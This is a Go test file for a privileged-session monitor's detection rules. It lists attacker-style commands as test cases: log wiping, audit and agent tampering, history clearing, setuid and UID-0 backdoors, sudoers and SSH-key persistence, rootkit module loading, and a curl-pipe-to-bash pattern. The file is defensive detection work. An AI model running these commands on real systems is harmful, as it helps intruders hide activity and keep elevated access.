package policy

import (
	"slices"
	"strings"
	"testing"

	"github.com/zpam/zpam/controlplane/internal/detect"
)

// ex is an exec with argv given as one line split on spaces, except
// that a sh -c script is everything after -c.
func ex(line string) detect.Exec {
	return exIn("/root", line)
}

func exIn(cwd, line string) detect.Exec {
	var argv []string
	if head, script, ok := strings.Cut(line, " -c "); ok {
		argv = append(strings.Fields(head), "-c", script)
	} else {
		argv = strings.Fields(line)
	}
	file := argv[0]
	if !strings.HasPrefix(file, "/") {
		file = "/usr/bin/" + file
	}
	return detect.Exec{Filename: file, Argv: argv, Cwd: cwd}
}

func hitNames(set *detect.Set, e detect.Exec) []string {
	var names []string
	for _, h := range set.Match(e) {
		names = append(names, h.Rule.Name)
	}
	return names
}

// builtinCases: for each built-in rule, commands it must match.
var builtinCases = map[string][]detect.Exec{
	"log-deletion": {ex("rm /var/log/zpam-test.log"), ex("rm -rf /var/log"), exIn("/var/log", "rm auth.log"), ex("shred -u /var/log/syslog"),
		ex("busybox rm /var/log/wtmp"), ex("find /var/log -name *.gz -delete"), ex("journalctl --vacuum-time=1s"), ex("/bin/unlink /var/log/lastlog")},
	"log-truncation": {ex("truncate -s 0 /var/log/auth.log"), ex("cp /dev/null /var/log/auth.log"), ex("dd if=/dev/zero of=/var/log/syslog"),
		ex("sh -c > /var/log/auth.log"), ex("bash -c echo > /var/log/wtmp"), ex("ln -sf /dev/null /var/log/auth.log")},
	"audit-tampering": {ex("auditctl -D"), ex("auditctl -e 0"), ex("auditctl -e0"), ex("systemctl stop auditd"), ex("systemctl mask auditd.service"),
		ex("service auditd stop"), ex("pkill auditd"), ex("vi /etc/audit/rules.d/audit.rules")},
	"agent-tampering": {ex("systemctl stop pam-agent"), ex("systemctl mask --now pam-agent.service"), ex("systemctl disable pam-agent"),
		ex("killall pam-agent"), ex("pam-agent uninstall"), ex("rm -rf /sys/fs/bpf/pam-agent"), ex("umount /sys/fs/bpf"),
		ex("vim /etc/pam-agent/agent.yaml"), ex("rm /var/lib/pam-agent/grants.json"), ex("apt-get remove -y pam-agent"), ex("dpkg -P pam-agent")},
	"history-clearing": {ex("bash -c history -c"), ex("sh -c unset HISTFILE; id"), ex("bash -c export HISTFILE=/dev/null"), ex("bash -c HISTSIZE=0"),
		ex("rm /root/.bash_history"), ex("ln -sf /dev/null /home/alice/.bash_history"), exIn("/root", "shred .zsh_history"), ex("bash -c set +o history")},
	"setuid-file": {ex("chmod u+s /tmp/sh"), ex("chmod +s /tmp/sh"), ex("chmod 4755 /tmp/sh"), ex("chmod 02755 /srv/dir"), ex("chmod u+x,g+s /tmp/sh"),
		ex("install -m 4755 sh /usr/local/bin/sh2"), ex("install --mode=u+s sh /tmp/x"), ex("setcap cap_setuid+ep /tmp/python3")},
	"new-user":           {ex("useradd -m eve"), ex("adduser eve"), ex("newusers users.txt"), ex("vipw"), ex("tee -a /etc/passwd"), ex("sed -i s/x/y/ /etc/shadow")},
	"uid-zero-account":   {ex("useradd -o -u 0 toor"), ex("usermod -u 0 -o eve"), ex("useradd --uid=0 --non-unique toor")},
	"admin-group-member": {ex("usermod -aG sudo eve"), ex("usermod -a -G docker,wheel eve"), ex("usermod --groups=sudo eve"), ex("gpasswd -a eve sudo"), ex("adduser eve sudo")},
	"sudoers-change": {ex("visudo"), ex("visudo -f /etc/sudoers.d/eve"), ex("tee /etc/sudoers.d/eve"), ex("cp eve /etc/sudoers.d/"),
		ex("sudoedit /etc/sudoers"), ex("sh -c echo 'eve ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/eve"), ex("chmod 0440 /etc/sudoers.d/eve")},
	"root-ssh-key":   {ex("tee -a /root/.ssh/authorized_keys"), ex("cp key.pub /root/.ssh/authorized_keys"), ex("sh -c cat k >> /root/.ssh/authorized_keys"), ex("vi /etc/ssh/sshd_config")},
	"ssh-key-change": {ex("tee -a /home/bob/.ssh/authorized_keys"), ex("cp k /home/bob/.ssh/authorized_keys2"), ex("sh -c echo k >> /home/bob/.ssh/authorized_keys")},
	"systemd-unit": {ex("systemctl enable evil.service"), ex("systemctl enable --now evil"), ex("systemctl edit ssh"), ex("cp evil.service /etc/systemd/system/"),
		ex("tee /etc/systemd/system/evil.service"), ex("sh -c cat u > /etc/systemd/system/evil.service"), ex("ln -s /tmp/x /etc/init.d/x")},
	"cron-entry": {ex("crontab -e"), ex("crontab job.txt"), ex("crontab -u bob -r"), ex("at now + 1 minute"), ex("tee /etc/cron.d/evil"), ex("cp job /etc/cron.hourly/job"),
		ex("sh -c echo '* * * * * root x' >> /etc/crontab"), ex("vi /var/spool/cron/crontabs/root")},
	"kernel-module":     {ex("insmod /tmp/rootkit.ko"), ex("modprobe evil"), ex("rmmod auditmod"), ex("tee /etc/modules-load.d/evil.conf"), ex("cp evil.ko /lib/modules/6.1.0/extra/")},
	"ld-preload":        {ex("tee /etc/ld.so.preload"), ex("sh -c echo /tmp/x.so > /etc/ld.so.preload")},
	"pam-config-change": {ex("vi /etc/pam.d/sshd"), ex("cp pam_evil.so /usr/lib/x86_64-linux-gnu/security/"), ex("sh -c echo auth sufficient pam_permit.so > /etc/pam.d/su")},
}

// benign are things an administrator does under a grant that no
// built-in rule may match.
var benign = []detect.Exec{
	ex("id -u"), ex("cat /var/log/auth.log"), ex("tail -f /var/log/syslog"), ex("less /etc/sudoers"), ex("grep alice /etc/passwd"),
	ex("ls -la /var/log"), ex("rm /tmp/scratch"), ex("chmod 755 /usr/local/bin/tool"), ex("chmod -s /tmp/sh"), ex("chmod 1777 /tmp/shared"),
	ex("systemctl status auditd"), ex("systemctl restart nginx"), ex("systemctl daemon-reload"), ex("journalctl -u pam-agent"), ex("crontab -l"),
	ex("visudo -c"), ex("modprobe -n evil"), ex("auditctl -l"), ex("cat /etc/pam-agent/agent.yaml"), ex("sh -c echo hi >> /var/log/app.log"),
	ex("bash -c history"), ex("usermod -aG docker eve"), ex("setcap -v cap_net_raw+ep /bin/ping"), ex("find /var/log -name *.gz"),
	ex("cp /etc/hosts /tmp/hosts"), ex("apt-get install -y nginx"), ex("journalctl --rotate"), ex("getcap -r /usr/bin"),
}

func TestBuiltinRulesMatchTheirCases(t *testing.T) {
	set := DefaultDetections()
	for _, r := range set.Rules {
		if _, ok := builtinCases[r.Name]; !ok && !r.Novel {
			t.Errorf("built-in rule %s has no test case", r.Name)
		}
	}
	for name, execs := range builtinCases {
		for _, e := range execs {
			if got := hitNames(set, e); !slices.Contains(got, name) {
				t.Errorf("%s (cwd %s) matched %v, want %s", strings.Join(e.Argv, " "), e.Cwd, got, name)
			}
		}
	}
}

func TestBuiltinRulesLeaveOrdinaryWorkAlone(t *testing.T) {
	set := DefaultDetections()
	for _, e := range benign {
		if got := hitNames(set, e); len(got) > 0 {
			t.Errorf("%s matched %v, want no rule", strings.Join(e.Argv, " "), got)
		}
	}
}

// TestSudoItselfIsNotTheFinding: the rm that sudo runs is the finding,
// not sudo's own exec, so one action is reported once.
func TestSudoItselfIsNotTheFinding(t *testing.T) {
	set := DefaultDetections()
	if got := hitNames(set, ex("sudo -n rm /var/log/zpam-test.log")); len(got) > 0 {
		t.Fatalf("sudo's exec matched %v", got)
	}
	hits := set.Match(ex("rm /var/log/zpam-test.log"))
	if len(hits) != 1 || hits[0].Evidence != "rm /var/log/zpam-test.log (/var/log/zpam-test.log)" {
		t.Fatalf("hits %+v", hits)
	}
	if r := hits[0].Rule; r.Severity != detect.High || set.ResponseOf(r) != detect.Revoke || r.Description == "" || !r.BuiltIn {
		t.Fatalf("log-deletion: %+v responds %s", r, set.ResponseOf(r))
	}
}

func TestBuiltinSeveritiesAndNovelRule(t *testing.T) {
	set := DefaultDetections()
	want := map[string]detect.Response{
		"agent-tampering": detect.Terminate, "kernel-module": detect.Terminate, "log-deletion": detect.Revoke,
		"history-clearing": detect.Revoke, "sudoers-change": detect.Suspend, "novel-elevated-command": detect.Flag,
	}
	for name, resp := range want {
		r, ok := set.Rule(name)
		if !ok || set.ResponseOf(r) != resp {
			t.Errorf("%s responds %s, want %s", name, set.ResponseOf(r), resp)
		}
	}
	if r, ok := set.NovelRule(); !ok || r.Name != "novel-elevated-command" || len(r.Match) != 0 {
		t.Fatalf("novel rule %+v", r)
	}
}

const detectionsPolicy = `detections:
  responses: {medium: flag, critical: revoke}
  disable: [novel-elevated-command]
  overrides:
    history-clearing: {severity: low}
    log-deletion: {response: suspend}
  rules:
    - name: curl-pipe-shell
      description: a script from the network run as root
      severity: high
      commands: [sh, bash]
      args: ['(curl|wget) .*\| *(ba)?sh']
    - name: prod-data
      severity: medium
      response: terminate
      any:
        - {commands: [rm, mv], paths: ['/srv/data/**']}
        - {cwd: ['/srv/data/**'], commands: [rm]}
`

func TestDetectionsSectionChangesTheSet(t *testing.T) {
	p := mustParse(t, detectionsPolicy)
	set := p.Detections
	if _, ok := set.NovelRule(); ok {
		t.Error("novel-elevated-command is still enabled")
	}
	hc, _ := set.Rule("history-clearing")
	if hc.Severity != detect.Low || set.ResponseOf(hc) != detect.Flag {
		t.Errorf("history-clearing: %s responds %s", hc.Severity, set.ResponseOf(hc))
	}
	ld, _ := set.Rule("log-deletion")
	if set.ResponseOf(ld) != detect.Suspend || ld.Severity != detect.High {
		t.Errorf("log-deletion responds %s", set.ResponseOf(ld))
	}
	if su, _ := set.Rule("sudoers-change"); set.ResponseOf(su) != detect.Flag {
		t.Errorf("medium rule sudoers-change responds %s, want flag", set.ResponseOf(su))
	}
	if km, _ := set.Rule("kernel-module"); set.ResponseOf(km) != detect.Revoke {
		t.Errorf("critical rule kernel-module responds %s, want revoke", set.ResponseOf(km))
	}
	if got := hitNames(set, ex("bash -c curl -s http://x/i.sh | bash")); !slices.Equal(got, []string{"curl-pipe-shell"}) {
		t.Errorf("curl | bash matched %v", got)
	}
	pd, _ := set.Rule("prod-data")
	if set.ResponseOf(pd) != detect.Terminate || pd.Line != 13 || pd.BuiltIn {
		t.Errorf("prod-data: %+v", pd)
	}
	if got := hitNames(set, exIn("/srv/data/db", "rm -rf x")); !slices.Equal(got, []string{"prod-data"}) {
		t.Errorf("rm in /srv/data matched %v", got)
	}
	if got := hitNames(DefaultDetections(), ex("bash -c curl -s http://x/i.sh | bash")); len(got) > 0 {
		t.Errorf("the default set gained a policy's rule: %v", got)
	}
	if r, _ := DefaultDetections().Rule("history-clearing"); r.Severity != detect.High {
		t.Errorf("an override changed the built-in set itself: %s", r.Severity)
	}
}

func TestDetectionsParseErrors(t *testing.T) {
	cases := []struct{ src, want string }{
		{"detections:\n  disable: [log-delete]\n", `policy.yaml:2: detections.disable[0]: "log-delete" is not a built-in rule; accepted: log-deletion, log-truncation`},
		{"detections:\n  responses: {urgent: revoke}\n", `policy.yaml:2: detections.responses.urgent: "urgent" is not a severity; accepted: info, low, medium, high, critical`},
		{"detections:\n  responses: {high: kill}\n", `detections.responses.high: "kill" is not a response; accepted: flag, suspend, revoke, terminate`},
		{"detections:\n  overrides:\n    log-deletion: {colour: red}\n", "policy.yaml:3: detections.overrides.log-deletion.colour: unknown field; accepted: response, severity"},
		{"detections:\n  rules:\n    - {name: x, severity: high}\n", "policy.yaml:3: detections.rules[0]: matches nothing; give commands, args, paths or cwd"},
		{"detections:\n  rules:\n    - {name: x, severity: high, args: ['(']}\n", `detections.rules[0].args: "(" is not a regular expression (RE2 syntax): missing closing ): ` + "`(`"},
		{"detections:\n  rules:\n    - {name: x, severity: high, paths: ['var/log/*']}\n", `detections.rules[0].paths: "var/log/*" is not an absolute path glob`},
		{"detections:\n  rules:\n    - {name: x, severity: high, commands: [bin/rm]}\n", `"bin/rm" is neither a program name like rm nor an absolute path like /usr/bin/rm`},
		{"detections:\n  rules:\n    - {name: log-deletion, severity: high, commands: [rm]}\n", `policy.yaml:3: detections.rules: "log-deletion" is a built-in rule; change it under detections.overrides`},
		{"detections:\n  rules:\n    - {name: Bad_Name, severity: high, commands: [rm]}\n", `"Bad_Name" is not a rule name`},
		{"detections:\n  rules:\n    - {name: x, severity: high, novel: true}\n", "detections.rules[0].novel: unknown field"},
		{"detections:\n  rules:\n    - {name: x, severity: high, commands: [rm], any: [{commands: [mv]}]}\n", "give either commands/args/exclude_args/paths/cwd or a list of them under any, not both"},
		{"detections:\n  rules:\n    - {name: x, severity: high, any: [{exclude_args: [x]}]}\n", "detections.rules[0].any[0]: matches every command"},
		{"detections:\n  rules:\n    - {name: x, commands: [rm]}\n    - {name: x, severity: low, commands: [rm]}\n", "detections.rules[0].severity: is required"},
	}
	for _, c := range cases {
		_, err := Parse("policy.yaml", []byte(c.src))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s\ngot error %v\nwant it to contain %q", c.src, err, c.want)
		}
	}
}
